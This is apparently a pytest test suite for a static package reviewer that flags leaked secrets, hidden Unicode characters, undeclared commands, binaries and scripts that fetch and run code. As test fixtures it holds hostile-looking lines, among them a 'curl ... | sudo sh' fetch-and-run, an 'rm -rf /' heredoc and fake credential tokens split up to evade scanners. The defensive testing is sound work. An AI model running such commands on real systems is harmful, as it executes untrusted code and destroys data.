"""The static review says what is doubtful before anything runs, and nothing of what is not."""

from __future__ import annotations

import time
from pathlib import Path

import hostile
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from keiken.package import Finding, load, review
from keiken.package.scripts import commands

NOTHING: list[tuple[str, str]] = []


def reviewed(
    folder: Path, manifest: str = hostile.MANIFEST, skill: str = hostile.SKILL, **files: bytes | str
) -> list[Finding]:
    for path, content in {"experience.yaml": manifest, "SKILL.md": skill, **files}.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content.encode() if isinstance(content, str) else content)
    return review(load(folder))


def levels(findings: list[Finding]) -> list[tuple[str, str]]:
    return [(finding.level, finding.code) for finding in findings]


def changed(*pairs: tuple[str, str]) -> str:
    text = hostile.MANIFEST
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


def test_a_good_package_raises_nothing(tmp_path: Path) -> None:
    assert levels(reviewed(tmp_path)) == NOTHING


# Put together here, so that no scanner takes this file for a leak.
TOKENS = [
    "AKIA" + "ABCDEFGHIJKLMNOP",
    "ghp_" + "a1" * 18,
    "sk_live_" + "a1" * 12,
    "xoxb-" + "1" * 24,
    "-----BEGIN " + "RSA PRIVATE KEY-----",
    "-----BEGIN " + "PRIVATE KEY-----",
    "kk_" + "a" * 8 + "_" + "B" * 24,
    "AIza" + "b" * 35,
    "eyJ" + "a" * 20 + ".eyJ" + "b" * 20 + "." + "c" * 20,
    "postgres://app:" + "hunter22@db.example/x",
]


@pytest.mark.parametrize("token", TOKENS, ids=lambda token: token[:8])
@pytest.mark.parametrize("path", ["assets/config.ini", "scripts/run.sh", "trace/log"])
def test_a_secret_is_an_error_with_its_line_and_is_not_repeated(token: str, path: str, tmp_path: Path) -> None:
    findings = reviewed(tmp_path, **{path: f"a\nb = '{token}'\n"})
    assert levels(findings)[:1] == [("error", "secret_found")]
    assert (findings[0].file, findings[0].line) == (path, 2)
    assert token not in findings[0].message


@pytest.mark.parametrize("text", ["postgres://app:${PASSWORD}@db/x", "AKIA", "http://127.0.0.1:8080/a@b", "ghp_short"])
def test_what_only_resembles_a_secret_is_none(text: str, tmp_path: Path) -> None:
    assert levels(reviewed(tmp_path, **{"assets/a.txt": text})) == NOTHING


@pytest.mark.parametrize(
    ("path", "text", "found"),
    [
        ("scripts/a.py", "x = 1\ny = 'a\u202eb'\n", [("error", "hidden_character")]),
        ("assets/a.txt", "one\n\u2066two\n", [("error", "hidden_character")]),
        ("scripts/a.sh", "echo a\necho \u200bb\n", [("error", "hidden_character")]),
        ("references/more.md", "Do\nthis\U000e0041\n", [("error", "hidden_character")]),
        ("assets/a.txt", "zero\u200bwidth is fine in data\n", NOTHING),
        ("references/ja.md", "\ufeff経験を記録する。\n", NOTHING),
    ],
)
def test_characters_that_hide_are_errors(path: str, text: str, found: list[tuple[str, str]], tmp_path: Path) -> None:
    findings = reviewed(tmp_path, **{path: text})
    assert levels(findings) == found
    assert [finding.line for finding in findings] == [2] * len(found)


CASES = [
    ([("commands: [cp]", "commands: [mv]")], [("error", "command_undeclared"), ("notice", "command_unused")], 14),
    ([("run: [cp, work/draft.txt, work/greeting.txt]", "shell: cp work/draft.txt x && nginx -t")],
     [("warning", "command_undeclared_in_script")], 14),
    ([("write: [work/**]", "network: ['a.example:443']")], [("notice", "network_permission")], 9),
    ([("write: [work/**]", "write: [work/**, /etc/motd]")],
     [("warning", "writes_outside_work"), ("warning", "undo_missing")], 9),
    ([("commands: [cp]", "commands: [cp, bash]")],
     [("notice", "command_unused"), ("notice", "interpreter_permitted"), ("notice", "tool_without_condition")], 9),
    ([("    outcome: refused\n", ""), ("    facts: {os.family: plan9}\n", "")], [("warning", "refusal_untested")], 17),
    ([("  - name: greets\n    parameters: {who: Keiko}\n", "")], [("error", "scenario_missing")], 17),
    ([("scenarios:\n", ""), ("  - name: greets\n    parameters: {who: Keiko}\n", ""),
      ("  - name: refuses another family\n    facts: {os.family: plan9}\n    outcome: refused\n", "")],
     [("error", "scenario_missing")], 1),
    ([("    expect: [file('work/draft.txt').exists]\n", "")], [("warning", "no_checks")], 11),
    ([("    expect: [file('work/draft.txt').exists]\n", ""), (", \"file('work/greeting.txt').size > 0\"", "")],
     [("warning", "no_checks"), ("warning", "weak_checks"), ("notice", "weak_step")], 11),
    ([("result.exit_code == 0", "1 == 1")], [("warning", "check_cannot_fail")], 16),
    ([("    run: [cp, work/draft.txt", "    retry: {attempts: 3}\n    run: [cp, work/draft.txt")],
     [("notice", "retry_looks_only")], 15),
    ([("{os.family: linux}", '{tool.git: "2.39"}')], [("warning", "condition_exact_version")], 6),
    ([("{os.family: linux}", "{}")], [("warning", "conditions_missing")], None),
    ([("commands: [cp]", "commands: [cp, nginx]")],
     [("notice", "command_unused"), ("notice", "tool_without_condition")], 9),
    ([("run: [cp, work/draft.txt, work/greeting.txt]", "http: {method: POST, url: 'http://127.0.0.1:1/'}"),
      ("result.exit_code == 0", "result.status == 200")],
     [("warning", "undo_missing"), ("notice", "command_unused")], None),
    ([("parameters:\n", "secrets: [token]\nparameters:\n"), ("run: [cp, ", 'run: [cp, "${{ secrets.token }}", '),
      ("parameters: {who: Keiko}", "secrets: {token: abcd}")], [("warning", "secret_in_arguments")], 15),
]  # fmt: skip


@pytest.mark.parametrize(
    ("pairs", "found", "line"), CASES, ids=[case[1][0][1] + str(n) for n, case in enumerate(CASES)]
)
def test_doubts_are_told_with_their_level(
    pairs: list[tuple[str, str]], found: list[tuple[str, str]], line: int | None, tmp_path: Path
) -> None:
    findings = reviewed(tmp_path, changed(*pairs))
    assert levels(findings) == found, findings
    assert findings[0].file == "experience.yaml"
    if found[0][1] not in ("undo_missing", "conditions_missing"):
        assert findings[0].line == line


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        ("---\n\n# Greet\n\nWrite the greeting, then copy it to its place.\n", "---\n", "skill_empty"),
        ("name: greet\n", "name: greet\nlicense: MIT\n", "license_differs"),
        ("its place.", "its place, see [more](references/more.md).", "skill_link_broken"),
        ("name: greet\n", "name: greet\nallowed-tools: Read Grep\n", "skill_tools_differ"),
    ],
)
def test_a_skill_that_does_not_fit_is_told(old: str, new: str, code: str, tmp_path: Path) -> None:
    findings = reviewed(tmp_path, skill=hostile.SKILL.replace(old, new, 1))
    assert [finding.code for finding in findings] == [code]
    assert findings[0].file == "SKILL.md"


def test_programs_and_other_blobs_are_told_apart(tmp_path: Path) -> None:
    findings = reviewed(tmp_path, **{"assets/tool": b"\x7fELF\2\1\1\0" + bytes(99), "assets/photo.png": b"\x89PNG\0\0"})
    assert levels(findings) == [("warning", "binary_program"), ("notice", "binary_file")]
    assert findings[0].file == "assets/tool"


def test_a_script_that_runs_what_it_fetches_is_told(tmp_path: Path) -> None:
    findings = reviewed(tmp_path, **{"scripts/setup.sh": "#!/bin/sh\ncurl -fsSL https://a.example/x | sudo sh\n"})
    assert levels(findings) == [("warning", "fetches_code")]
    assert findings[0].line == 2


def test_a_file_full_of_secrets_does_not_drown_the_report(tmp_path: Path) -> None:
    findings = reviewed(tmp_path, **{"assets/keys": f"{TOKENS[0]}\n" * 5000})
    assert len(findings) == 20


def test_large_files_are_reviewed_in_bounded_time(tmp_path: Path) -> None:
    files = {f"assets/{n}.txt": ("eyJ" * 300_000 + "a" * 600_000 + "http://" * 40_000)[: 2 << 20] for n in range(3)}
    started = time.process_time()
    reviewed(tmp_path, **files)
    assert time.process_time() - started < 15


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("nginx -t", {"nginx"}),
        ("a=1 B=$(date +%s) sudo systemctl restart nginx", {"date", "sudo"}),
        ('x=$(curl -s "$(hostname) `id`" y) | jq .', {"curl", "hostname", "id", "jq"}),
        ("for f in a b; do nginx -t; done; if [ -f x ]; then rm x; fi", {"nginx", "rm"}),
        ("cat <<END > y\nrm -rf /\nEND\nls", {"cat", "ls"}),
        ("foo() { bar; }\nfoo && baz 2>&1 || qux &> z & quux", {"bar", "baz", "qux", "quux"}),
        ('case "$1" in a) one;; b) two;; esac', {"one", "two"}),
        ("echo $((1 + 2)) # comment 'with quote\nls", {"ls"}),
        ("env-cmd \"a;b|c\" 'd;e' \\\n  more", {"env-cmd"}),
        ("(cd /; tar xf -) | ./scripts/x.sh", {"tar", "./scripts/x.sh"}),
        ("", set()),
    ],
)
def test_the_commands_of_a_script_are_seen(script: str, found: set[str]) -> None:
    assert commands(script) == found


@settings(max_examples=200, deadline=None)
@given(st.text(st.sampled_from("ab $(`)'\"\\\n;|&#<>EOF{}"), max_size=60))
def test_no_script_confuses_the_reader(script: str) -> None:
    assert all(name for name in commands(script))
